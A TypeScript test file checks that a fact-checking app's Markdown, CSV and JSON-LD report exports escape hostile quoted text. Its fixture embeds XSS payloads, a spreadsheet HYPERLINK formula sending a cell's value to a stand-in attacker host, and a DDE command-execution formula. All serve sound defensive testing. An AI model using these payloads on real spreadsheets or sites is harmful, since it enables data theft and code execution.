import { parseHTML } from "linkedom";
import { marked } from "marked";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "@/lib/domain/report/render-markdown";
import type { Report } from "@/lib/domain/report/report-types";
import { csvRows } from "@/lib/server/report/report-csv";
import { renderReport } from "@/lib/server/report/report-response";

// Exports leave Factdesk and are opened by spreadsheets, Markdown renderers and CMS script tags; text
// a claim quotes from a hostile page must stay text in all of them.

const HOSTILE = `<img src=x onerror="alert(1)"> & </script><script>alert(2)</script>`;

function hostileReport(): Report {
  return {
    generatedAt: "2026-11-30T00:00:00.000Z",
    organization: { name: "Desk <b>bold</b>", url: null, logoUrl: null },
    article: {
      id: "a1",
      title: `Title ${HOSTILE}`,
      url: `https://example.org/a>"<img src=x onerror=alert(3)>`,
      outlet: "<svg onload=alert(4)>",
      language: "en",
      publishedAt: null,
      lead: "",
      reportUrl: "https://factdesk.example/articles/a1",
    },
    credibility: { score: null, range: null, coverage: 0, state: "not-enough-reviewed", reviewed: 0, checkworthy: 1, distribution: {} } as unknown as Report["credibility"],
    claims: [
      {
        id: "c1",
        text: `=HYPERLINK("http://evil.example/?"&A1,"click") ${HOSTILE}`,
        wording: "+SUM(1,2)",
        inText: true,
        suggestedWording: `=cmd|"/C calc"!A0 <b>bold</b>`,
        claimant: "@attacker &lt;i&gt;",
        status: "final",
        exclusion: null,
        checkworthiness: 0.9,
        verdict: { key: "false", label: "-False", description: `<b>desc</b>`, value: 1, worst: 1, best: 5, credibility: "false_ish", color: "#b91c1c", rationale: `\tcmd ${HOSTILE}`, decidedAt: "2026-11-30", decidedBy: null },
        sources: [{ url: `https://example.org/s?q=<script>`, title: `<iframe src=javascript:alert(5)>`, publisher: "\rpub", stance: "refutes", excerpt: null, archivedAt: null }],
      },
    ],
  };
}

/** Every element a rendered HTML fragment contains (Markdown's own p, h1, a … are fine; user text must add none). */
function renderedElements(markdown: string) {
  const { document } = parseHTML(`<!doctype html><html><body>${marked.parse(markdown, { async: false })}</body></html>`);
  return [...document.body.querySelectorAll("*")];
}

describe("report exports with hostile text", () => {
  it("Markdown: HTML in claims, titles, names and URLs renders as text, not as elements or attributes (marked)", () => {
    const markdown = renderMarkdown(hostileReport());
    const elements = renderedElements(markdown);
    const tags = new Set(elements.map((element) => element.tagName.toLowerCase()));
    for (const tag of ["img", "script", "svg", "iframe", "b"]) expect(tags.has(tag), `<${tag}> was created`).toBe(false);
    for (const element of elements) {
      for (const attribute of element.getAttributeNames()) expect(attribute.startsWith("on"), `${element.tagName} got ${attribute}`).toBe(false);
      expect(element.getAttribute("href") ?? "").not.toMatch(/^javascript:|[<>"]/);
    }
    // Still readable as written.
    const { document } = parseHTML(`<html><body>${marked.parse(markdown, { async: false })}</body></html>`);
    expect(document.body.textContent).toContain(`<img src=x onerror="alert(1)">`);
    expect(document.body.textContent).toContain("@attacker &lt;i&gt;");
  });

  it("CSV: cells starting with =, +, -, @, tab or CR are written with a leading quote; numbers stay numbers", () => {
    const csv = csvRows(hostileReport(), false);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")`);
    expect(csv).toContain(`,"'+SUM(1,2)",`);
    expect(csv).toContain(",'@attacker &lt;i&gt;,");
    expect(csv).toContain(",'-False,");
    expect(csv).toContain(`"'\tcmd`);
    expect(csv).not.toMatch(/(^|,)"?[=+\-@\t\r]/m);
    expect(csv).toContain(",0.9,");
  });

  it("CSV: a field with a lone line feed or carriage return is quoted, so it never starts a row of its own (hostile probe of stop 38)", () => {
    const report = hostileReport();
    report.claims[0] = { ...report.claims[0]!, wording: "Wording\n=1+1", verdict: { ...report.claims[0]!.verdict!, rationale: "looks fine\n=1+2\r@SUM(A1)" } };
    const csv = csvRows(report, true);
    const rows = parse(csv, { relax_column_count: false }) as string[][];
    expect(rows).toHaveLength(2);
    expect(rows[1]).toContain("Wording\n=1+1");
    expect(rows[1]).toContain("looks fine\n=1+2\r@SUM(A1)");
    // Read as a spreadsheet reads it: no cell starts with a formula.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("ClaimReview JSON-LD: no literal </script> or < at all, and the same data once parsed", () => {
    const json = renderReport(hostileReport(), "claimreview");
    expect(json).not.toContain("<");
    expect(json).not.toMatch(/<\/script/i);
    expect(JSON.parse(json)[0].claimReviewed).toBe("+SUM(1,2)");
    expect(JSON.stringify(JSON.parse(json))).toContain("</script><script>alert(2)</script>");
  });
});
